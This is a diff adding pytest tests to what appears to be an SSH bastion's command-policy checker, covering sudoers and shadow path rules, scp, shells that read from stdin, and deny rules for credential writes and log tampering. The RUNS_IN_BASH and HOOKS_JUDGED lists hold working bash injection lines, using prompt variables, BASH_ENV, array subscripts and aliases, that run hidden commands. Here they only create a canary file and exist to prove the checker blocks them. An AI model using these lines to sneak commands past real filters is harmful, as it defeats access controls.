+    direct = judge_path(policy, op, [path], role="r", target="t")
+    quoted = shlex.quote(path)
+    line = {">": f": > {quoted}", "<": f": < {quoted}"}.get(op, f"{op} {quoted}")
+    via_line = evaluate(policy, line, role="r", target="t")
+    assert (direct.action, direct.rule, direct.message) == (
+        via_line.action, via_line.rule, via_line.message)
+    # Paths are taken literally: a glob or ~ in an sftp path names that very file.
+    expected = "deny" if normalise_path(path) in ("/etc/sudoers", "/etc/sudoers.d/x",
+                                                   "/etc/sudoers.d/a b") else "allow"
+    assert direct.action == expected
+
+
+def test_judge_path_resolves_relative_sftp_paths_from_the_logins_home() -> None:
+    policy = small_policy(SUDOERS)
+    for login, path, expected in [("root", "../etc/sudoers", "deny"),
+                                  ("deploy", "../../etc/sudoers", "deny"),
+                                  ("deploy", "../etc/sudoers", "allow"),
+                                  (None, "../../etc/sudoers", "allow")]:
+        verdict = judge_path(policy, ">", [path], role="r", target="t", login=login)
+        assert verdict.action == expected, (login, path)
+
+
+def test_judge_path_names_the_operation_and_refuses_others() -> None:
+    policy = small_policy(SUDOERS)
+    verdict = judge_path(policy, "mv", ["/tmp/x", "/etc/sudoers.d/y"], role="r", target="t")
+    assert (verdict.action, verdict.rule) == ("deny", "sudoers")
+    assert verdict.command == "mv /tmp/x /etc/sudoers.d/y"
+    with pytest.raises(ValueError):
+        judge_path(policy, "cp", ["/etc/sudoers"], role="r", target="t")
+
+
+def test_judge_path_uses_the_default_policy_messages(default_policy: Policy) -> None:
+    verdict = judge_path(default_policy, ">", ["/etc//sudoers"], role="engineer", target="web01")
+    assert (verdict.action, verdict.rule) == ("deny", "no-credential-file-writes")
+    assert verdict.message == "Credential files are not changed through the bastion."
+    assert judge_path(default_policy, "<", ["/etc/shadow"], role="engineer",
+                      target="web01").action == "allow"
+    assert judge_path(default_policy, "rm", ["/var/log/wtmp"], role="engineer",
+                      target="web01").rule == "no-log-tampering"
+
+
+def test_legacy_scp_server_side_is_a_file_operation_not_a_copy_out(default_policy: Policy) -> None:
+    assert names("scp -t /tmp/x") == [">"]
+    assert names("scp -r -d -t -- /srv/a /srv/b") == [">", ">"]
+    assert names("scp -f /var/log/syslog") == ["<"]
+    assert names("scp x me@elsewhere:") == ["scp"]
+    assert action(default_policy, "scp -t /tmp/upload") == "allow"
+    assert action(default_policy, "scp -v -f /etc/hosts") == "allow"
+    assert action(default_policy, "scp db.dump me@elsewhere:") == "alert"
+    assert action(default_policy, "scp -t /etc/../etc/sudoers") == "deny"
+
+
+def test_a_login_name_makes_tilde_exact(default_policy: Policy) -> None:
+    for login, expected in [("root", "deny"), ("deploy", "deny"), (None, "deny")]:
+        verdict = evaluate(default_policy, "rm -rf ~", role="engineer", target="web01",
+                           login=login)
+        assert verdict.action == expected
+    assert evaluate(default_policy, "rm -rf ~/build", role="engineer", target="web01",
+                    login="deploy").action == "allow"
+    assert evaluate(default_policy, "rm -rf ~/..", role="engineer", target="web01",
+                    login="deploy").rule == "no-root-wipe"  # /home
+
+
+# ---------------------------------------------------------------------------------------------
+# One list of shells: what reads its program from the line's stdin (the exec gate's question).
+
+STDIN_PROGRAMS = [
+    ("bash", "shell"), ("sh", "shell"), ("bash -o emacs", "shell"), ("bash +o history", "shell"),
+    ("bash -O extglob", "shell"), ("bash --rcfile /tmp/rc", "shell"), ("bash -s a b", "shell"),
+    ("bash -il", "shell"), ("bash -c bash", "shell"), ("sh -c 'exec bash'", "shell"),
+    ("rbash", "shell"), ("dash", "shell"), ("ksh", "shell"), ("ksh93 -o vi", "shell"),
+    ("mksh -T /dev/tty2", "shell"), ("zsh", "shell"), ("/usr/local/bin/zsh", "shell"),
+    ("bash5.2", "shell"), ("/opt/bash-5.2/bin/bash", "shell"), ("busybox sh", "shell"),
+    ("busybox ash", "shell"), ("toybox sh", "shell"), ("sudo -u app dash", "shell"),
+    ("script -qc bash /dev/null", "shell"), ("ls; bash", "shell"), (". /dev/stdin", "shell"),
+    ("bash /dev/stdin", "shell"), ("fish", "shell"), ("at now", "shell"),
+    ("sudo -s", "shell"), ("sudo -u app -i", "shell"), ("su", "shell"), ("su - app", "shell"),
+    ("sudo su -", "shell"), ("doas -s", "shell"), ("runuser -l app", "shell"),
+    ("script -q /dev/null", "shell"), ("chroot /srv/jail", "shell"), ("newgrp docker", "shell"),
+    ("su -c id app", None), ("sudo ls", None), ("chroot /srv/jail ls", None),
+    ("python3", "interpreter"), ("python3 -", "interpreter"), ("python3 -W ignore", "interpreter"),
+    ("perl", "interpreter"), ("node", "interpreter"), ("awk -f -", "interpreter"),
+    ("python3; bash", "interpreter"),
+    ("bash script.sh", None), ("bash -c 'ls'", None), ("bash -o emacs x.sh", None),
+    ("fish -c ls", None), ("python3 x.py", None), ("python3 -c 'print(1)'", None),
+    ("python3 -W ignore x.py", None), ("awk 1 f", None), ("echo hi", None), ("bash < x", None),
+    ("cat x | bash", None), ("ls", None), ("", None),
+]
+
+
+@pytest.mark.parametrize(("command", "kind"), STDIN_PROGRAMS)
+def test_which_exec_commands_read_their_program_from_stdin(command: str,
+                                                            kind: str | None) -> None:
+    assert reads_script_from_stdin(command) == kind
+
+
+def test_the_gate_and_the_policy_share_one_list_of_shells() -> None:
+    assert gate.reads_script_from_stdin is reads_script_from_stdin
+    assert not hasattr(gate, "SHELLS")
+    for shell in SHELLS:
+        assert shell_name(f"/usr/bin/{shell}") == shell
+        assert shell_name(f"{shell}5.1") == shell
+        assert names(f"{shell} -c 'reboot'")[-1] == "reboot" or shell == "fish", shell
+    assert shell_name("bashful") is None and shell_name("shx") is None
+
+
+# ---------------------------------------------------------------------------------------------
+# Code the shell runs later: each member of the class (see bastion.policy's docstring), judged
+# with the same rules as the line itself, so `touch` shows up as a command.
+
+HOOKS_JUDGED = [
+    "PROMPT_COMMAND='touch /tmp/x'",
+    "PROMPT_COMMAND=(history 'touch /tmp/x')",
+    "export PROMPT_COMMAND+='; touch /tmp/x'",
+    "printf -v PROMPT_COMMAND %s 'touch /tmp/x'",
+    "declare 'PROMPT_COMMAND=touch /tmp/x'",
+    ": ${PROMPT_COMMAND:=touch /tmp/x}",
+    "for PROMPT_COMMAND in 'touch /tmp/x'; do :; done",
+    "PS1='$(touch /tmp/x)'",
+    "PS0='`touch /tmp/x`'",
+    "PS2='\\044(touch /tmp/x)'",
+    "PS4='\\140touch /tmp/x\\140'",
+    "RPROMPT='$(touch /tmp/x)'",
+    "BASH_ENV='$(touch /tmp/x)' bash -c :",
+    "ENV='$(touch /tmp/x)' sh -i",
+    "MAILPATH='/var/mail/a?$(touch /tmp/x)'",
+    "BASH_ALIASES[ls]='touch /tmp/x'",
+    "alias ls='touch /tmp/x'",
+    "env 'BASH_FUNC_ls%%=() { touch /tmp/x; }' bash -c ls",
+    "trap 'touch /tmp/x' DEBUG",
+    "mapfile -C 'touch /tmp/x' -c 1 < /etc/hosts",
+    "complete -C 'touch /tmp/x' ls",
+    "compgen -W '$(touch /tmp/x)'",
+    "bind -x '\"\\C-t\": touch /tmp/x'",
+    "zsh -c 'sched +1 touch /tmp/x'",
+    "command_not_found_handle() { touch /tmp/x; }",
+    "cd() { touch /tmp/x; }",
+]
+
+
+@pytest.mark.parametrize("line", HOOKS_JUDGED)
+def test_code_a_hook_stores_is_judged_as_commands(line: str) -> None:
+    assert "touch" in names(line), parse_commands(line)
+
+
+# Lines that really run their command in bash (a canary file appears), which the policy must
+# not allow. Each is also in the tables above; here bash itself shows the attack is real.
+RUNS_IN_BASH = [
+    "x='a[$(touch {c})]'; echo $((x))",
+    "x='a[$(touch {c})]'; [[ $x -eq 1 ]]",
+    "x='a[$(touch {c})]'; a=(1); echo ${{a[x]}}",
+    "x='a[$(touch {c})]'; echo ${{!x}}",
+    "x='$(touch {c})'; echo ${{x@P}}",
+    "printf -v 'a[$(touch {c})]' %s 1",
+    "read 'a[$(touch {c})]' <<< x",
+    "mapfile -C 'touch {c} #' -c 1 <<< x",
+    "compgen -W '$(touch {c})'",
+    "BASH_CMDS[ls]=/usr/bin/touch; ls {c}",
+    "env 'BASH_FUNC_f%%=() {{ touch {c}; }}' bash -c f",
+    "BASH_ENV='$(touch {c})' bash -c :",
+    "cat <<EOF\n`touch {c}`\nEOF",
+    "coproc {{ touch {c}; }}; wait",
+    "x='\\044(touch {c})'; echo ${{x@P}}",
+    "shopt -s expand_aliases; alias x=eval\nx 'touch {c}'",
+    "bash /dev//stdin <<< 'touch {c}'",
+]
+
+
+@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
+@pytest.mark.parametrize("template", RUNS_IN_BASH)
+def test_lines_that_run_a_command_in_bash_are_not_allowed(tmp_path: Path,
+                                                           template: str) -> None:
+    canary = tmp_path / "ran"
+    line = template.format(c=canary)
+    subprocess.run(["bash", "-c", line], capture_output=True, timeout=10, cwd=tmp_path)
+    assert canary.exists(), "the attack did not run in bash: the test proves nothing"
+    policy = small_policy({"name": "no-touch", "action": "deny", "commands": ["touch"]})
+    assert evaluate(policy, line, role="r", target="t").action != "allow", parse_commands(line)
+
+
+# ---------------------------------------------------------------------------------------------
 # Loading policy.toml
 
 VALID_RULE = {"name": "r", "action": "deny", "commands": ["rm"]}
@@ -941,6 +1605,11 @@ BAD_POLICIES = [
     ({"rules": [{**VALID_RULE, "targets": [1]}]}, "rules[1].targets[0]", "non-empty string"),
     ({"rules": [{**VALID_RULE, "message": "two\nlines"}]}, "rules[1].message", "one line"),
     ({"rules": [VALID_RULE, VALID_RULE]}, "rules[2].name", "duplicate rule name 'r'"),
+    ({"rules": [{**VALID_RULE, "paths": "/etc/x"}]}, "rules[1].paths", "list of strings"),
+    ({"rules": [{**VALID_RULE, "paths": ["/etc//x"]}]}, "rules[1].paths[0]", "not normalised"),
+    ({"rules": [{**VALID_RULE, "paths": ["/etc/../x"]}]}, "rules[1].paths[0]", "not normalised"),
+    ({"rules": [{**VALID_RULE, "paths": ["~/.ssh"]}]}, "rules[1].paths[0]", "~ is expanded"),
+    ({"rules": [{**VALID_RULE, "paths": ["etc/x"]}]}, "rules[1].paths[0]", "is relative"),
 ]
 
 
